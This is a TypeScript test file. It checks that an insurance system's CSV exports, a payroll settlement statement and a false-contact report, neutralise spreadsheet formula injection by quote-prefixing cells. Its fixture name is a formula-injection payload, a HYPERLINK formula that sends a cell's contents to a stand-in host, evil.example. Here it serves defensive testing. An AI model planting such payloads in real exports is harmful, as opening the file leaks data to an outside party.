import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestSystem, type TestSystem } from '../support/local-api.js';
import { CLOCK_START, registration } from '../support/policies.js';
import { Scenario } from '../support/scenario.js';

/**
 * The CSV exports open in spreadsheets: no cell may start a formula. Ids may start with `-`
 * (`[A-Za-z0-9_-]`), so they get a leading `'`; names never reach a CSV at all.
 */
let t: TestSystem;
let paid: Scenario;
beforeAll(async () => {
  t = await startTestSystem(CLOCK_START);
  paid = new Scenario(t.api, `-P${randomUUID().slice(0, 8)}`);
});
afterAll(async () => { await t.stop(); });

const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const AGENT = { agentId: `-A${randomUUID().slice(0, 6)}`, name: EVIL_NAME, phone: '13900000077', email: 'evil@insurer.example' };
const BRANCH = '-BR';
const falseContact = `-F${randomUUID().slice(0, 8)}`;

async function csv(path: string, role: string): Promise<string[][]> {
  const response = await fetch(`${t.api.baseUrl}${path}`, { headers: { authorization: `Bearer local:${role}`, accept: 'text/csv' } });
  const text = await response.text();
  expect(response.status, text).toBe(200);
  expect(text).not.toContain('HYPERLINK');
  // No cell starts a formula; none of these cells holds a comma or a quote.
  const rows = text.trimEnd().split('\r\n').map((r) => r.split(','));
  for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  return rows;
}

describe('CSV exports defuse spreadsheet formulas', () => {
  it('payroll statement and false-contact report: ids starting with "-" are prefixed with a quote', async () => {
    const overrides = { agent: AGENT, branchId: BRANCH };
    await paid.register(overrides);
    const registered = await t.api.post('upstream', '/v1/policies', registration(falseContact, await t.api.now(), { ...overrides, policyholder: { name: EVIL_NAME, phone: AGENT.phone } }));
    expect(registered.status, registered.text).toBe(201);
    await t.api.advance('P10D');
    expect((await paid.call(1, { reached: true })).roundStatus).toBe('PASSED');
    await paid.returnReceipt();
    await t.api.advanceTo(new Date('2026-03-20T10:00:00+08:00')); // March's scheduled settlement

    const statement = await csv(`/v1/settlements/2026-03?agentId=${AGENT.agentId}`, 'manager');
    expect(statement.find((r) => r[0] === 'LINE' && r[4] === `'${paid.policyId}`)).toEqual(
      ['LINE', '2026-03', `'${AGENT.agentId}`, `'${BRANCH}`, `'${paid.policyId}`, 'PAY', '', '1200.00', '0.00', '', '1200.00'],
    );
    expect(statement.find((r) => r[0] === 'AGENT_TOTAL')?.[2]).toBe(`'${AGENT.agentId}`);

    const report = await csv('/v1/reports/false-contact?quarter=2026-Q1', 'compliance');
    expect(report.find((r) => r[2] === `'${falseContact}`)?.slice(0, 4)).toEqual(['2026-Q1', `'${AGENT.agentId}`, `'${falseContact}`, `'${BRANCH}`]);
  });
});
